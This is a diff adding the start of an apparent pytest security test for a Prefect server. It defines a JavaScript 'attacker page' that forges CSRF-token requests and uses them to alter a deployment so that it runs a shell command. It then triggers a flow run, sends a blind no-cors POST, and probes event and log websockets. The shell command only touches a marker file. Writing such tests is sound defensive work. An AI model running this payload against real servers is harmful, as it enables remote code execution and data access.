@@ -1,0 +1,55 @@
+"""What a page of an attacker does."""
+
+import os
+
+import pytest
+
+CHROMIUM = "/usr/bin/chromium"
+
+
+SOCKETS = (
+    "/api/events/in",
+    "/api/events/out",
+    "/api/logs/out",
+    "/api/task_runs/subscriptions/scheduled",
+    "/api/work_pools/any/workers/connect",
+)
+
+
+# What the page of an attacker does: token, list, change, start, and the streams of events; it tells what it got.
+PAGE = """async ({base, deployment, mark, sockets}) => {
+  const got = {};
+  const ask = async (name, path, options = {}) => {
+    try {
+      const answer = await fetch(base + path, {credentials: 'include', ...options});
+      got[name] = [answer.type, answer.status, answer.type === 'opaque' ? '' : await answer.text()];
+    } catch (error) { got[name] = ['error', 0, '']; }
+    return got[name][2];
+  };
+  let token = {};
+  try {
+    token = {'Prefect-Csrf-Client': 'evil', 'Prefect-Csrf-Token': JSON.parse(await ask('token', '/api/csrf-token?client=evil')).token};
+  } catch (error) { }
+  const body = (content, type) => ({method: 'POST', headers: {...token, 'Content-Type': type}, body: JSON.stringify(content)});
+  const steps = [{'prefect.deployments.steps.run_shell_script': {script: `touch ${mark}`}}];
+  const {id, ...named} = deployment, evil = {...named, pull_steps: steps};
+  await ask('settings', '/ui-settings');
+  await ask('docs', '/openapi.json');
+  await ask('list', '/api/flows/filter', body({}, 'application/json'));
+  await ask('change', '/api/deployments/', body(evil, 'application/json'));
+  await ask('start', `/api/deployments/${id}/create_flow_run`, body({}, 'application/json'));
+  await ask('blind', '/api/deployments/', {...body(evil, 'text/plain'), headers: {'Content-Type': 'text/plain'}, mode: 'no-cors'});
+  const open = (path, protocols) => new Promise(done => {
+    const socket = new WebSocket((base || location.origin).replace('http', 'ws') + path, protocols);
+    const told = [];
+    socket.onopen = () => { told.push('open'); socket.send(JSON.stringify({type: 'auth', token: null})); };
+    socket.onmessage = message => told.push(message.data);
+    socket.onclose = () => done(told);
+    setTimeout(() => done(told), 4000);
+  });
+  for (const path of sockets) got[path] = (await Promise.all([open(path, ['prefect']), open(path, [])])).flat();
+  return got;
+}"""
+
+
+needs_chromium = pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK), reason="chromium is not installed")
